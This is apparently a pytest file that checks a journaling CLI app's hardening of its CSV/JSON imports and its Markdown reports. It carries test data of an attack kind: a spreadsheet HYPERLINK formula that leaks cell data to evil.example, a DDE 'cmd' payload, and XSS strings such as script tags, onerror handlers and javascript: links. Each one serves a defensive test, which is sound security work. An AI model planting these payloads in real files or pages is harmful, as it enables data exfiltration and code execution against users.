"""Issue 10, points 6, 8, 10 and 14: hostile import files, formula cells, a report
that renders no HTML, and big imports that stream and say how far they got."""

from __future__ import annotations

import csv
import io
import json
import re
import subprocess
import sys
import time
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from benchmarks.journal_factory import sample_attempts
from rejection_tui.domain.library import builtin_challenges
from rejection_tui.domain.models import Attempt, Outcome
from rejection_tui.domain.stats import summarise
from rejection_tui.storage.formats import (
    FIELDS,
    OPTIONAL_FIELDS,
    ImportProblem,
    export_csv,
    export_json,
    export_markdown,
    md_text,
    parse_import,
    read_import,
    read_import_file,
)
from rejection_tui.storage.journal import Journal
from tests.conftest import NOW

FIXTURES = Path(__file__).with_name("fixtures")
TIME = next(c for c in builtin_challenges() if c.id == "ask-the-time")
savable = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=30
)
formula_like = st.one_of(
    savable,
    st.builds(lambda start, rest: start + rest, st.sampled_from(["=", "+", "-", "@", "\t", "\r", "'", "''", "'="]), savable),
)


def cli(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "rejection_tui", *args], capture_output=True, text=True, stdin=subprocess.DEVNULL
    )


# -- point 6: CR and CRLF inside cells, extra cells, a byte order mark ------------------


def test_cr_and_crlf_inside_a_quoted_cell_survive_a_file_import_and_a_bom_is_fine() -> None:
    imported = read_import_file(FIXTURES / "import_crlf_bom.csv")
    notes = {a.id: (a.note, a.worry, a.lesson) for a in imported.attempts}
    assert notes["crlf-1"] == ("line one\r\nline two\rline three\nend", "they\r\nlaugh", "")
    assert notes["crlf-2"][2] == "ok\r"
    assert imported.rows == 2


def test_the_cli_import_keeps_cr_and_crlf(tmp_path: Path) -> None:
    target = tmp_path / "journal.json"
    result = cli("--db", str(target), "import", str(FIXTURES / "import_crlf_bom.csv"))
    assert result.returncode == 0, result.stderr
    assert "(2 rows read): 2 added" in result.stdout
    with Journal.open(target) as journal:
        assert journal.get_attempt("crlf-1").note == "line one\r\nline two\rline three\nend"  # type: ignore[union-attr]


def test_a_row_with_more_cells_than_the_header_is_refused_with_its_number(tmp_path: Path) -> None:
    with pytest.raises(ImportProblem, match="row 2 has 20 cells but the header has 18"):
        read_import_file(FIXTURES / "import_extra_cells.csv")
    target = tmp_path / "journal.json"
    result = cli("--db", str(target), "import", str(FIXTURES / "import_extra_cells.csv"))
    assert result.returncode == 1 and result.stderr.count("\n") == 1
    assert "nothing imported" in result.stderr and "row 2 has 20 cells" in result.stderr


def test_a_row_with_fewer_cells_is_refused_too() -> None:
    header, row = export_csv([sample_attempts(1)[0]]).splitlines()[:2]
    columns = len(FIELDS) + len(OPTIONAL_FIELDS)
    with pytest.raises(ImportProblem, match=f"row 1 has {columns - 1} cells but the header has {columns}"):
        parse_import(header + "\r\n" + row.rsplit(",", 1)[0] + "\r\n")


# -- point 8: wrong types, far-off years, deep nesting and huge numbers never crash -----


@pytest.mark.parametrize(
    ("fixture", "reason"),
    [
        ("import_outcome_list.json", "row 1: Outcome must be one of"),
        ("import_year_9999.json", "row 1: Done at must be in the years 2000 to 2200 (it is in the year 9999)"),
    ],
)
def test_wrong_types_and_far_off_years_are_one_clear_line(tmp_path: Path, fixture: str, reason: str) -> None:
    target = tmp_path / "journal.json"
    result = cli("--db", str(target), "import", str(FIXTURES / fixture))
    assert result.returncode == 1
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert reason in result.stderr


@pytest.mark.parametrize(
    ("content", "reason"),
    [
        ('{"attempts": ' + "[" * 100_000 + "]" * 100_000 + "}", "nested too deeply"),
        ('{"attempts": [{"fear_before": ' + "9" * 5000 + "}]}", "a number with 5,000 digits"),
        ('{"attempts": [], "unreadable": [{"x": 1e400}]}', "the number 1e400, which is too large"),
        ('{"attempts": [], "unreadable": [{"x": NaN}]}', "NaN"),
        ('{"attempts": [], "unreadable": [5]}', "must be a list of objects"),
        ('{"attempts": [], "unreadable": [{"x": "\\udc80"}]}', "unreadable entry 1 cannot be kept"),
        ('{"attempts": [[]]}', "row 1: An attempt must be an object"),
    ],
    ids=["nested-100000", "5000-digits", "1e400", "NaN", "not-objects", "lone-surrogate", "list-row"],
)
def test_hostile_json_imports_are_one_clear_line(tmp_path: Path, content: str, reason: str) -> None:
    source = tmp_path / "hostile.json"
    source.write_text(content, encoding="utf-8")
    target = tmp_path / "journal.json"
    result = cli("--db", str(target), "import", str(source))
    assert result.returncode == 1, result.stderr
    assert result.stderr.count("\n") == 1 and "Traceback" not in result.stderr
    assert reason in result.stderr


def test_a_huge_number_in_a_csv_cell_is_a_short_message() -> None:
    rows = export_csv([sample_attempts(1)[0]]).splitlines()
    cells = next(csv.reader([rows[1]]))
    cells[FIELDS.index("fear_before")] = "9" * 5000
    out = io.StringIO()
    csv.writer(out).writerow(cells)
    with pytest.raises(ImportProblem) as caught:
        parse_import(rows[0] + "\r\n" + out.getvalue())
    assert "row 1: fear_before must be a whole number" in str(caught.value) and len(str(caught.value)) < 200


# -- point 10: formula cells in CSV, HTML and links in the Markdown report -------------

DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def test_the_formula_fixture_has_no_cell_a_spreadsheet_would_run_and_reads_back_exactly() -> None:
    text = (FIXTURES / "export_formulas.csv").read_bytes().decode("utf-8")
    cells = [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]
    assert not [c for c in cells if c.startswith(DANGEROUS)]
    attempts = {a.id: a for a in read_import_file(FIXTURES / "export_formulas.csv").attempts}
    assert attempts["formula-1"].worry == '=HYPERLINK("http://evil.example/?q="&A1,"click")'
    assert attempts["formula-1"].note == "=cmd|' /C calc'!A0"
    assert attempts["formula-1"].lesson == "+1 for trying"
    assert attempts["@formula-2"].note == "'=already quoted"
    assert attempts["@formula-2"].challenge_title == "\tTabbed"
    # The fixture is an export from before issue 13 (it still imports): today's adds retro and via,
    # and issue 16's columns (empty, or false for the flags: not given).
    exported = list(csv.reader(io.StringIO(export_csv(list(attempts.values())), newline="")))
    assert [row[: len(FIELDS)] for row in exported] == list(csv.reader(io.StringIO(text, newline="")))
    defaults = ["false", "app", "", "", "", "", "false", "", "", "", "false"]
    assert [row[len(FIELDS) :] for row in exported] == [list(OPTIONAL_FIELDS), defaults, defaults]


@settings(max_examples=150, deadline=None)
@given(worry=formula_like, note=formula_like, lesson=formula_like, title=formula_like.filter(str.strip), attempt_id=formula_like.filter(str.strip))
def test_csv_cells_never_start_a_formula_and_every_text_reads_back_exactly(
    worry: str, note: str, lesson: str, title: str, attempt_id: str
) -> None:
    attempt = replace(
        Attempt.plan(TIME, fear_before=40, worry=worry, note=note, now=NOW), id=attempt_id, challenge_title=title
    ).rate(fear_after=10, outcome=Outcome.PARTIAL, lesson=lesson, now=NOW)
    text = export_csv([attempt])
    for row in csv.reader(io.StringIO(text, newline="")):
        assert not [cell for cell in row if cell.startswith(DANGEROUS)]
    assert parse_import(text) == [attempt]


class _Tags(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, list[tuple[str, str | None]]]] = []
        self.text: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, attrs))

    def handle_data(self, data: str) -> None:
        self.text.append(data)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[click me](javascript:alert(1))",
    "![pixel](https://tracker.example/p.png)",
    "<javascript:alert(1)>",
    "<https://tracker.example>",
    "line one\n[ref]: javascript:alert(1)\n\n[ref]",
    "<!-- hidden --> & &amp; &#x3C;b&#x3E;",
    "# heading\n> quote\n- item\n1. first\n    code\n```\nfence\n```\n| a | b |\n|---|---|",
    "*emphasis* _under_ `code` ~~strike~~ \\ backslash",
]
REPORT_TAGS = {"h1", "h2", "h3", "p", "ul", "li", "em", "strong", "br"}


def render_html(report: str) -> _Tags:
    parser = _Tags()
    # Raw HTML on, tables and strikethrough on: the most a viewer could do.
    parser.feed(MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"]).render(report))
    return parser


@pytest.mark.parametrize("hostile", HOSTILE)
def test_the_markdown_report_renders_user_text_as_text_only(hostile: str) -> None:
    attempt = replace(
        Attempt.plan(TIME, fear_before=60, worry=hostile, note=hostile, now=NOW), challenge_title=hostile
    ).rate(fear_after=30, outcome=Outcome.REJECTED, lesson=hostile, now=NOW)
    report = export_markdown([attempt], summarise([attempt], NOW, rest_days=set()))
    html = render_html(report)
    assert {tag for tag, _ in html.tags} <= REPORT_TAGS, html.tags
    assert all(not attrs for _, attrs in html.tags)  # no href, no src
    shown = " ".join("".join(html.text).split())
    for line in hostile.splitlines():
        assert " ".join(line.split()) in shown


@settings(max_examples=150, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("<>[]()!:*_`~#&;|\\-+=.1 \nabjs/")), max_size=40))
def test_md_text_never_makes_markup_and_keeps_the_words(text: str) -> None:
    html = render_html(f"- Learned: {md_text(text)}\n")
    assert {tag for tag, _ in html.tags} <= {"ul", "li", "p", "br"}, (text, html.tags)
    assert " ".join("".join(html.text).split()) == " ".join(f"Learned: {text}".split())


# -- point 14: big imports stream, show progress and count rows ---------------------


def test_a_long_csv_import_reports_progress_and_the_rows_read(tmp_path: Path) -> None:
    source = tmp_path / "big.csv"
    source.write_text(export_csv(sample_attempts(25_000)), encoding="utf-8", newline="")
    seen: list[tuple[int, float | None]] = []
    imported = read_import_file(source, lambda rows, fraction: seen.append((rows, fraction)))
    assert imported.rows == 25_000 and len(imported.attempts) == 25_000
    assert [rows for rows, _ in seen] == [10_000, 20_000, 25_000]
    fractions = [f for _, f in seen if f is not None]
    assert fractions == sorted(fractions) and fractions[-1] == 1.0 and 0 < fractions[0] < 1


def test_the_cli_shows_a_progress_line_on_a_terminal_only(tmp_path: Path) -> None:
    import pty

    source = tmp_path / "big.csv"
    source.write_text(export_csv(sample_attempts(12_000)), encoding="utf-8", newline="")
    quiet = cli("--db", str(tmp_path / "a.json"), "import", str(source))
    assert quiet.returncode == 0 and quiet.stderr == ""
    assert "(12,000 rows read): 12,000 added" in quiet.stdout
    # On a terminal: a progress line on stderr, cleared before the result.
    leader, follower = pty.openpty()
    child = subprocess.Popen(
        [sys.executable, "-m", "rejection_tui", "--db", str(tmp_path / "b.json"), "import", str(source)],
        stdin=subprocess.DEVNULL, stdout=subprocess.PIPE, stderr=follower,
    )  # fmt: skip
    import os

    os.close(follower)
    out, _ = child.communicate(timeout=120)
    chunks = []
    while True:
        try:
            chunk = os.read(leader, 4096)
        except OSError:
            break
        if not chunk:
            break
        chunks.append(chunk)
    os.close(leader)
    err = b"".join(chunks).decode()
    assert child.returncode == 0
    assert re.search(r"Reading big\.csv: \d+%, 10,000 rows", err), err
    assert "12,000 rows read" in out.decode()


def test_a_long_import_streams_its_rows_and_stays_small(tmp_path: Path) -> None:
    """Issue 10, point 14. Measured on 100,000 rows (see the issue's report): before, 9.4–13 s
    and 349 MB peak RSS; after, 6.9–7.2 s and 291 MB. Here 30,000 rows keep the suite quick."""
    source = tmp_path / "big.csv"
    source.write_text(export_csv(sample_attempts(30_000)), encoding="utf-8", newline="")
    # VmHWM (the peak of this process's own memory), not ru_maxrss: Linux carries
    # ru_maxrss over from the parent across fork and exec, so under a big pytest
    # worker it reported the worker's size, not the import's.
    code = (
        "import re, sys; from pathlib import Path; from rejection_tui.cli import main; "
        "code = main(['--db', sys.argv[1], 'import', sys.argv[2]]); "
        "print(re.search(r'VmHWM:\\s+(\\d+)', Path('/proc/self/status').read_text())[1], file=sys.stderr); "
        "sys.exit(code)"
    )
    started = time.monotonic()
    result = subprocess.run(
        [sys.executable, "-c", code, str(tmp_path / "journal.json"), str(source)], capture_output=True, text=True
    )
    assert result.returncode == 0, result.stderr
    assert "(30,000 rows read): 30,000 added" in result.stdout
    peak_mb = int(result.stderr.split()[-1]) // 1024
    assert peak_mb < 160, f"peak RSS {peak_mb} MB"
    assert time.monotonic() - started < 120  # generous: CI shares two cores


def test_json_export_is_unchanged_for_a_clean_journal_but_lists_no_unreadable() -> None:
    document = json.loads(export_json(sample_attempts(2)))
    assert document["unreadable"] == [] and len(document["attempts"]) == 2
    assert read_import(export_json(sample_attempts(2))).rows == 2
